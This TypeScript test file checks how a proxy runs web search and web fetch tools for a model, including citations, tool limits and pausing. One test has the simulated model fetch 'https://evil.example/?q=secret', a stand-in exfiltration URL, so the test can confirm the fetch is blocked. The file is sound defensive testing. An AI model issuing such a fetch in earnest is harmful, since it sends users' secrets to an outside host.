import { describe, expect, test } from 'bun:test'
import type { MessagesEvent, StopReason } from '@csp/messages-api/events'
import { foldMessage } from '@csp/messages-api/fold'
import type { ContentBlock, MessagesRequest } from '@csp/messages-api/request'
import { eventsOf } from '@csp/messages-api/unfold'
import {
  failedTool,
  type ServerToolRunner,
  type ToolOutcome,
  withServerTools,
} from '../../src/server-tools/server-tools.ts'
import type { Upstream } from '../../src/upstream.ts'

const { signal } = new AbortController()
const search = { type: 'web_search_20250305', name: 'web_search' }
const fetch = { type: 'web_fetch_20250910', name: 'web_fetch' }

/** Blocks follow one another, with indices from 0, and none is open at the end. */
function expectWhole(events: readonly MessagesEvent[]): void {
  const ends = events.filter(({ type }) => type === 'content_block_start' || type === 'content_block_stop')
  expect(ends.map((event) => [event.type, 'index' in event && event.index])).toEqual(
    ends.map((_, at) => [at % 2 === 0 ? 'content_block_start' : 'content_block_stop', Math.floor(at / 2)]),
  )
}

/** What a search for a query, or a page, brings. */
const outcome = (asked: string): ToolOutcome => ({
  content: [{ type: 'web_search_result', url: `https://${asked}.example/` }],
  text: (first) => `[${first}] https://${asked}.example/`,
  pages: [{ url: `https://${asked}.example/`, title: asked, excerpt: 'Seals bark.', encryptedIndex: 'x' }],
})

type Said = readonly [content: readonly ContentBlock[], stop: StopReason]

const call = (id: string, name: string, input: object): ContentBlock => ({ type: 'tool_use', id, name, input })
const look = (id: string, query: unknown) => call(id, 'web_search', { query })
const open = (id: string, url: unknown) => call(id, 'web_fetch', { url })
const words = (text: string): ContentBlock => ({ type: 'text', text })

/** Plays one turn: what the model says in each reply, the last one again and again. */
async function play(
  replies: readonly Said[],
  more: Partial<MessagesRequest> = {},
  run: Partial<ServerToolRunner> = {},
) {
  const asked: MessagesRequest[] = []
  const ran: string[] = []
  const upstream: Upstream = {
    name: 'x',
    async *send(request) {
      asked.push(request)
      const [content, stop_reason] = replies[asked.length - 1] ?? replies.at(-1) ?? [[], 'end_turn']
      const head = { id: `msg_${asked.length}`, type: 'message', role: 'assistant', model: 'm' } as const
      yield* eventsOf({
        ...head,
        content,
        stop_reason,
        stop_sequence: null,
        usage: { input_tokens: 2, output_tokens: 3 },
      })
    },
    async close() {},
  }
  const noted = (line: string, found: string) => {
    ran.push(line)
    return outcome(found)
  }
  const runner: ServerToolRunner = {
    search: async (query) => noted(`search ${query}`, query),
    fetch: async (url) => noted(`fetch ${url}`, 'page'),
    ...run,
  }
  const request: MessagesRequest = {
    ...{ model: 'm', messages: [{ role: 'user', content: 'Seals?' }], tools: [search, fetch], ...more },
  }
  const events = await Array.fromAsync(withServerTools(upstream, request, { signal }, runner))
  expectWhole(events)
  async function* all() {
    yield* events
  }
  return { asked, ran, message: await foldMessage(all()) }
}

describe('a turn with tools that csp runs', () => {
  test('has the searches of the model within it, and is one message of one id', async () => {
    const { asked, ran, message } = await play(
      [
        [[words('I look.'), look('a', 'seals'), look('b', 'whales')], 'tool_use'],
        [[words('They bark [2].')], 'end_turn'],
      ],
      { tool_choice: { type: 'any' } },
    )
    expect(ran).toEqual(['search seals', 'search whales'])
    expect(message).toMatchObject({ id: 'msg_1', stop_reason: 'end_turn' })
    expect(message.usage).toMatchObject({
      ...{ input_tokens: 4, output_tokens: 6, server_tool_use: { web_search_requests: 2, web_fetch_requests: 0 } },
    })
    expect(message.content).toMatchObject([
      words('I look.'),
      { type: 'server_tool_use', id: 'srvtoolu_1_a', name: 'web_search', input: { query: 'seals' } },
      { type: 'web_search_tool_result', tool_use_id: 'srvtoolu_1_a', content: outcome('seals').content },
      { type: 'server_tool_use', id: 'srvtoolu_2_b', input: { query: 'whales' } },
      { type: 'web_search_tool_result', tool_use_id: 'srvtoolu_2_b' },
      { type: 'text', citations: [{ url: 'https://whales.example/' }] },
      words('.'),
    ])
    const results = [
      ['a', '[1] https://seals.example/'],
      ['b', '[2] https://whales.example/'],
    ]
    expect(asked[1]?.messages.slice(1) as object[]).toMatchObject([
      { role: 'assistant', content: [words('I look.'), look('a', 'seals'), look('b', 'whales')] },
      { role: 'user', content: results.map(([id, content]) => ({ type: 'tool_result', tool_use_id: id, content })) },
    ])
    // A tool that must be called is called once.
    expect(asked.map(({ tool_choice }) => tool_choice)).toEqual([{ type: 'any' }, undefined])
  })

  test('keeps the wish for no tools', async () => {
    const none = { type: 'none' }
    const { asked } = await play(
      [
        [[look('a', 'x')], 'tool_use'],
        [[], 'end_turn'],
      ],
      { tool_choice: none },
    )
    expect(asked.map(({ tool_choice }) => tool_choice)).toEqual([none, none])
  })

  test('ends with a call of the client, behind the searches of the same reply', async () => {
    const mine = call('c', 'mine', { x: 1 })
    const { asked, message } = await play([[[look('a', 'seals'), words('Then:'), mine], 'tool_use']])
    expect([asked.length, message.stop_reason]).toEqual([1, 'tool_use'])
    expect(message.content).toMatchObject([
      { type: 'server_tool_use' },
      { type: 'web_search_tool_result' },
      words('Then:'),
      mine,
    ])
  })

  test('without any of these calls is the reply of the model', async () => {
    const mine = call('c', 'mine', {})
    const { asked, message } = await play([[[words('Yes.'), mine], 'tool_use']])
    expect([asked.length, message.content]).toEqual([1, [words('Yes.'), mine]])
    expect(message.usage).toEqual({ input_tokens: 2, output_tokens: 3 })
  })

  test('pauses after ten replies that all ask for more', async () => {
    const { asked, ran, message } = await play([[[look('a', 'x')], 'tool_use']])
    expect([asked.length, ran.length, message.stop_reason]).toEqual([10, 10, 'pause_turn'])
  })

  test('runs a tool as often as it may, and no call that has no words', async () => {
    const { ran, message } = await play(
      [
        [[look('a', ' '), look('b', 5), look('c', 'x'), look('d', 'y')], 'tool_use'],
        [[], 'end_turn'],
      ],
      { tools: [{ ...search, max_uses: 1 }] as never },
    )
    expect(ran).toEqual(['search x'])
    const codes = ['invalid_tool_input', 'invalid_tool_input', 'max_uses_exceeded']
    const failed = message.content.flatMap(({ content }) => (content && !Array.isArray(content) ? [content] : []))
    expect<unknown>(failed).toEqual(codes.map((error_code) => ({ type: 'web_search_tool_result_error', error_code })))
    expect(message.usage).toMatchObject({ server_tool_use: { web_search_requests: 1, web_fetch_requests: 0 } })
  })

  test('reads pages of the conversation and of its own results, and none that the model made up', async () => {
    const { ran, asked, message } = await play(
      [
        [
          [open('a', 'https://evil.example/?q=secret'), open('b', 'https://a.example/x'), look('c', 'seals')],
          'tool_use',
        ],
        [[open('d', 'https://seals.example/')], 'tool_use'],
        [[], 'end_turn'],
      ],
      { messages: [{ role: 'user', content: 'Read https://a.example/x' }] },
    )
    expect(ran).toEqual(['fetch https://a.example/x', 'search seals', 'fetch https://seals.example/'])
    expect(message.content[1]).toMatchObject({
      ...{
        type: 'web_fetch_tool_result',
        content: { type: 'web_fetch_tool_result_error', error_code: 'url_not_in_prior_context' },
      },
    })
    expect(asked[1]?.messages.at(-1)?.content).toMatchObject([
      { content: 'Error: The URL must stand in the conversation or in the results of a search.', is_error: true },
      { tool_use_id: 'b' },
      { tool_use_id: 'c' },
    ])
    expect(message.usage).toMatchObject({ server_tool_use: { web_search_requests: 1, web_fetch_requests: 2 } })
  })

  test('does not take the words of a failure for addresses', async () => {
    const told = 'https://told.example/'
    const search = async () => failedTool({ kind: 'search' }, 'unavailable', `See ${told}`)
    const { ran } = await play(
      [
        [[look('a', 'x')], 'tool_use'],
        [[open('b', told)], 'tool_use'],
        [[], 'end_turn'],
      ],
      {},
      { search },
    )
    expect(ran).toEqual([])
  })
})
